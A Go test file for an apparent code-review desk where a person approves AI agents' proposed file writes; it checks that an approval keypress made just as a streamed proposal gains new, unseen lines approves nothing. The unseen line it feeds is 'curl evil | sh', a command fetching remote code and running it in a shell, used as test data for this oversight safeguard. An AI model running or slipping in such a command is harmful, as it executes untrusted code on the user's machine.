package ui

import (
	"strings"
	"testing"
	"time"

	"github.com/diffdesk/diffdesk/engine"
	"github.com/diffdesk/diffdesk/review"
	"github.com/diffdesk/diffdesk/review/decision"
)

// TestAKeyJustAfterANewVersionApprovesNothing: the deciding keys wait
// ArmDelay after a proposal is first shown, but a proposal already shown
// can take new texts — its stream ends with lines the person never had on
// screen, a file changes on disk, a new round on the hub. a pressed as the
// new version arrives (meant for the one before: pressed the moment the
// stream stopped) approved it, version and all — the version it named was
// the one just drawn. A new version re-arms the keys as a new proposal does.
func TestAKeyJustAfterANewVersionApprovesNothing(t *testing.T) {
	h := newHarness(t)
	h.SetArmDelay(600 * time.Millisecond)
	p, err := h.desk.Propose(t.Context(), review.Request{Agent: "a", Format: engine.FormatWrite, Path: "s.txt", Stream: true})
	if err != nil {
		t.Fatal(err)
	}
	h.desk.Feed(p.ID, "fine\n")
	h.until("the stream shows", func() bool { return h.Shown() == p.ID && h.ShownState() == review.StateStreaming })
	h.advance(time.Second) // the person watches the stream
	h.desk.Feed(p.ID, "curl evil | sh\n")
	if _, err := h.desk.Finish(t.Context(), p.ID); err != nil {
		t.Fatal(err)
	}
	h.until("the stream ends", func() bool { return h.ShownState() == review.StatePending })
	h.press('a') // the instant it ends
	if h.Deciding() {
		t.Fatalf("a the moment the stream ended started deciding it (status %q)", h.Status())
	}
	if !strings.Contains(h.Status(), "look at it, then decide") {
		t.Errorf("status %q; want it to ask the person to look first", h.Status())
	}
	h.advance(time.Second) // the person looked at the whole text
	h.press('a')
	h.ApproveAnywayIfAsked()
	if o := h.outcome(p.ID); o.Status != decision.Approved {
		t.Errorf("after a look, a: %s; want approved", o.Status)
	}
}
